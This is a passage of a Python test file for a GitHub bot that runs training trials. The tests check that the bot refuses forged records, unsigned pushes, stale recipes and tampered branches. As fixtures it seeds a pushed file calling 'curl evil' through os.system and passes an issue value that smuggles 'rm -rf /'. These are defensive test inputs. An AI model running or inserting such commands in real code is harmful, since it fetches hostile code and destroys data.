    forged = RunRecord.model_validate_json(victim.read_text()).model_copy(update={"hook": "grad_scale:2"})
    victim.write_text(forged.model_dump_json())
    trial_results.handle(
        forge,
        art,
        campaign=cal["campaign"],
        issue=int(cal["issue"]),
        pr=0,
        sha=cal["sha"],
        kind="calibrate",
        attempt=1,
        job_wall_s=3600.0,
        policy=flow.policy,
        lessons=[],
    )
    state = flow.state()
    assert (
        state.calibrated
        and state.loss_band is None
        and "refused" in state.calibration_note
        and "hook" in state.calibration_note
    )


def check_then_report(flow: Flow, inputs: dict[str, str]) -> tuple[str, str]:
    """trial.yml as it is: ``check`` (the real check-trial on the dispatched inputs), then -- ok or refused -- the
    report job, which feeds a refusal back with check's reason (nothing ran, no artifact)."""
    from bot.github.check_trial import check_trial

    lines, reason = check_trial(
        flow.forge,
        pr=int(inputs["pr"]),
        sha=inputs["sha"],
        campaign=inputs["campaign"],
        kind=inputs["kind"],
        recipe=inputs["recipe"],
        runner_labels=inputs["runner_labels"],
        limits=inputs["limits"],
        issue=inputs["issue"],
    )
    assert "ok=false" in lines and f"reason={reason}" in lines
    empty = flow.tmp / f"refused-{len(flow.trials())}"
    empty.mkdir()
    out = trial_results.handle(
        flow.forge,
        empty,
        campaign=inputs["campaign"],
        issue=int(inputs["issue"]),
        pr=int(inputs["pr"]),
        sha=inputs["sha"],
        kind=inputs["kind"],
        attempt=int(inputs["attempt"]),
        run_job_result="skipped",
        check_refused=reason,
        policy=flow.policy,
        lessons=[],
    )
    return reason, out


def test_a_trial_check_refused_closes_the_step_with_the_reason_instead_of_waiting(gh, forge, tmp_path) -> None:
    flow = Flow(
        gh,
        forge,
        tmp_path,
        Scripted(change("training.gc_freq", 50, 100), change("activation_checkpoint", "full", "none")),
    )
    flow.through_calibration()
    trial = flow.last
    pr = int(trial["pr"])
    # someone pushes code onto the step branch after the bot dispatched its trial: check refuses the dispatched sha
    gh.seed(
        {"bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "a person's push", branch=gh.pulls[pr].head_ref
    )

    reason, out = check_then_report(flow, trial)

    assert f"PR #{pr} head is" in reason and "refused by check" in out
    run = flow.state().step(1).runs[0]
    assert run.outcome == "crash" and run.reason == f"check refused the run: {reason}" and run.record == ""
    assert gh.pulls[pr].state == "closed" and gh.pulls[pr].merged_at is None
    closing = next(c for c in flow.bot_comments(pr) if "closed" in c.splitlines()[0])
    assert "check refused the run" in closing
    assert flow.last["kind"] == "trial" and int(flow.last["pr"]) != pr  # the campaign went on with the next step
    # the same refusal delivered again changes nothing
    dispatches = len(gh.dispatches)
    assert check_then_report(flow, trial)[1].startswith("ignored")
    assert len(gh.dispatches) == dispatches


def test_the_check_reads_the_levers_a_step_may_change_from_the_campaign_state_on_its_issue(gh, forge, tmp_path) -> None:
    """trial.yml's check passes the dispatched issue: the step's trial runs when its recipe changes the lever the
    bot's state comment names; a lever pushed onto the branch besides it, a wrong or malformed issue, or a forge
    that does not know the bot's login (so no comment can be trusted) each refuse the run."""
    from bot.core.recipe import set_lever_text
    from bot.github.check_trial import check_trial

    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    trial = flow.last

    def check(inputs: dict[str, str], on: GitHubForge = forge, **over: str) -> tuple[list[str], str]:
        args = {**inputs, **over}
        return check_trial(
            on,
            pr=int(args["pr"]),
            sha=args["sha"],
            campaign=args["campaign"],
            kind=args["kind"],
            recipe=args["recipe"],
            runner_labels=args["runner_labels"],
            limits=args["limits"],
            issue=args["issue"],
        )

    lines, reason = check(trial)
    assert reason == "ok" and "ok=true" in lines
    other = gh.add_issue("another", "not a campaign", user="alice")
    assert "not the levers of this step ([])" in check(trial, issue=str(other))[1]
    assert "expected the campaign issue's number" in check(trial, issue="7; rm -rf /")[1]
    blind = GitHubForge(gh.full_name, TOKEN, seconds_between_requests=None, seconds_between_writes=None, retry=None)
    lines, reason = check(trial, on=blind)
    assert "ok=false" in lines and "cannot be trusted" in reason and "bot's own login is unknown" in reason
    branch = gh.pulls[int(trial["pr"])].head_ref
    text = set_lever_text(gh.file(trial["recipe"], branch), "activation_checkpoint", "none", source=trial["recipe"])
    pushed = gh.seed({trial["recipe"]: text}, "a second lever on the step", branch=branch)
    lines, reason = check(trial, sha=pushed)
    assert "ok=false" in lines and "['activation_checkpoint']" in reason and "not the levers of this step" in reason


def test_a_calibration_reads_only_a_records_branch_the_bot_wrote_with_the_default_branchs_recipe(
    gh, forge, tmp_path
) -> None:
    """The calibration's runner reads the baseline's recipe and record from the records branch at ``records_sha``:
    check lets it only when that head is the bot's own commit (its login and GitHub's signature: a push may name the
    bot as its author, but only the API's commits are signed) and the recipe kept there is the default branch's."""
    from bot.github.check_trial import check_trial

    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
    cal = flow.last
    assert cal["kind"] == "calibrate"

    def check() -> tuple[dict[str, str], str]:
        lines, reason = check_trial(
            forge,
            pr=0,
            sha=cal["sha"],
            campaign=cal["campaign"],
            kind="calibrate",
            recipe=cal["recipe"],
            runner_labels=cal["runner_labels"],
            limits=cal["limits"],
            issue=cal["issue"],
        )
        return dict(line.split("=", 1) for line in lines), reason

    out, reason = check()
    branch = records_branch(cal["campaign"])
    assert reason == "ok" and out["records_sha"] == gh.head(branch)
    clean = gh.head(branch)
    kept = f"campaigns/{cal['campaign']}/baseline-recipe.yaml"
    # a person pushes onto the records branch, naming the bot as the author: linked to the bot's login, but unsigned
    forged = gh.seed(
        {kept: gh.file(kept, branch).replace("local_batch_size: 1", "local_batch_size: 2")},
        "a push",
        branch=branch,
        author=gh.actor,
    )
    out, reason = check()
    assert (
        out["ok"] == "false"
        and out["records_sha"] == forged
        and f"{branch} head {forged[:12]} is not the bot's commit" in reason
    )
    assert "unsigned" in reason
    # the bot's next commit on top of that push (restoring the recipe): the head is the bot's, the push under it is not
    repo_file = forge._repo.get_contents(kept, ref=branch)  # noqa: SLF001 - writes as the bot writes
    restored = gh.file(kept, branch).replace("local_batch_size: 2", "local_batch_size: 1")
    forge._repo.update_file(kept, "attune: restore", restored, repo_file.sha, branch=branch)  # noqa: SLF001
    out, reason = check()
    assert out["ok"] == "false" and "not the bot's own under its head" in reason and forged[:12] in reason
    # back to the bot's own history; the bot's own commit, but the recipe kept there is not the default branch's
    gh.refs[f"heads/{branch}"] = clean  # a maintainer resets the branch to the bot's last commit
    repo_file = forge._repo.get_contents(kept, ref=branch)  # noqa: SLF001
    forge._repo.update_file(
        kept, "attune: a stale recipe", gh.file(kept, branch) + "# stale\n", repo_file.sha, branch=branch
    )  # noqa: SLF001
    out, reason = check()
    assert out["ok"] == "false" and "the recipe the baseline ran differs from" in reason


def test_a_calibration_check_refused_gives_no_band_and_goes_on(gh, forge, tmp_path) -> None:
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.start()
    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
    cal = flow.last
    gh.seed({"README.md": "main moved on\n"}, "a merge")  # the dispatched sha is no longer main's head

    reason, out = check_then_report(flow, cal)

    assert "is not the head of main" in reason and "calibration refused by check" in out
    state = flow.state()
    assert (
        state.calibrated and state.loss_band is None and "check refused the calibration run" in state.calibration_note
    )
    assert flow.last["kind"] == "trial"


@pytest.mark.parametrize("issue", ["none", "plain"])
def test_a_refused_dispatch_of_no_campaign_is_ignored(gh, forge, tmp_path, issue) -> None:
    """A dispatch anyone with write access made up (no such issue, or an issue without a campaign)."""
    number = 99 if issue == "none" else gh.add_issue("a question", "hello", user="alice")
    out = trial_results.handle(
        forge,
        tmp_path,
        campaign="nobody",
        issue=number,
        pr=5,
        sha="e" * 40,
        kind="trial",
        attempt=1,
        run_job_result="skipped",
        check_refused="PR #5 is not from an attune/ branch",
    )
    assert out.startswith("ignored: check refused a run of no campaign")
    assert gh.dispatches == [] and gh.comments == {}


def test_a_pair_is_believed_only_for_the_incumbent_check_trial_named(gh, forge, tmp_path) -> None:
    """A pair's incumbent side must be the default branch head whose recipe is the campaign's incumbent: a report
    that names another sha (here the candidate's own) is fed as a crashed pair, never as a measurement."""
    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
    flow.through_calibration()
    flow.answer(record(flow.recipe, 1200.0, run_id="t1"))
    pair = flow.last
    out = tmp_path / "forged"
    for side in ("incumbent", "candidate"):
        (out / side).mkdir(parents=True)
        text = gh.file(pair["recipe"], pair["sha"])
        rec = record(flow.recipe, 900.0 if side == "incumbent" else 1300.0, run_id=side[0])
        (out / side / "record.json").write_text(stamped(rec, text, pair["sha"]).model_dump_json())
    said = trial_results.handle(
        forge,
        out,
        campaign=pair["campaign"],
        issue=int(pair["issue"]),
        pr=int(pair["pr"]),
        sha=pair["sha"],
        kind="pair",
        attempt=1,
        job_wall_s=3600.0,
        base_sha=pair["sha"],
        policy=flow.policy,
        lessons=[],
    )
    assert "pair 1 of step 1 crash" in said
    step = flow.state().step(1)
    assert not step.kept and step.state == "closed" and "not the default branch's now" in step.close_reason
